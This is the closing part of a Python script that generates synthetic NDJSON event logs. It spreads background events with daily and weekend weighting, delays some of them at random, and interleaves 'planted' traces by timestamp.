    return int(dt.datetime.fromisoformat(text.replace("Z", "+00:00")).timestamp())


def diurnal_weight(hour_index: int, start_s: int) -> float:
    t = start_s + hour_index * 3600
    d = dt.datetime.fromtimestamp(t, dt.timezone.utc)
    h = d.hour
    w = 1.0 if 7 <= h < 19 else (0.55 if 19 <= h < 23 else 0.35)
    if d.weekday() >= 5:
        w *= 0.5
    return w + 0.15  # the internet never sleeps


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--events", type=int, required=True)
    ap.add_argument("--seed", type=int, required=True)
    ap.add_argument("--out", required=True, help="output NDJSON file ('-' for stdout)")
    ap.add_argument("--start", default="2026-10-01T00:00:00Z")
    ap.add_argument("--days", type=int, default=30)
    args = ap.parse_args()

    t0 = time.perf_counter()
    start_s = parse_time(args.start)
    g = Generator(args.seed, start_s, args.days)
    planted = Planter(g, args.seed).build()
    if args.events < 4 * len(planted):
        print(f"error: --events must be at least {4 * len(planted)} (the planted traces are {len(planted)} events)", file=sys.stderr)
        return 2
    rnd = random.Random(f"palisade-store-background-{args.seed}")
    table = g.make_background(rnd)
    background = args.events - len(planted)
    hours = args.days * 24
    weights = [diurnal_weight(h, start_s) for h in range(hours)]
    total_w = sum(weights)
    setup = time.perf_counter() - t0

    out = sys.stdout if args.out == "-" else open(args.out, "w", encoding="utf-8", newline="\n")
    bits = rnd.getrandbits
    rand = rnd.random
    start_us = g.start_us
    p_idx = 0
    p_len = len(planted)
    next_p = planted[0][0] if planted else 1 << 62
    buf: list[str] = []
    written = 0
    acc = 0.0
    placed = 0
    for h in range(hours):
        acc += weights[h]
        upto = round(acc / total_w * background)
        n_h = upto - placed
        placed = upto
        if n_h <= 0:
            continue
        hs = start_us + h * 3_600_000_000
        step = 3_600_000_000 / n_h
        for j in range(n_h):
            t = hs + int((j + rand()) * step)
            if bits(5) == 0:  # ~3% arrive late: up to 8 s behind their neighbours
                t -= bits(23)
                if t < start_us:
                    t = start_us
            while next_p <= t:
                buf.append(planted[p_idx][1])
                p_idx += 1
                next_p = planted[p_idx][0] if p_idx < p_len else 1 << 62
            buf.append(table[bits(12)](t))
            if len(buf) >= 20000:
                buf.append("")
                out.write("\n".join(buf))
                written += len(buf) - 1
                buf = []
    while p_idx < p_len:  # planted traces after the last background event
        buf.append(planted[p_idx][1])
        p_idx += 1
    if buf:
        buf.append("")
        out.write("\n".join(buf))
        written += len(buf) - 1
    if out is not sys.stdout:
        out.close()
    elapsed = time.perf_counter() - t0
    print(f"wrote {written} events ({len(planted)} planted) in {elapsed:.1f} s "
          f"(setup {setup:.1f} s, {written / max(elapsed - setup, 1e-9):,.0f} events/s)", file=sys.stderr)
    return 0


if __name__ == "__main__":
    sys.exit(main())
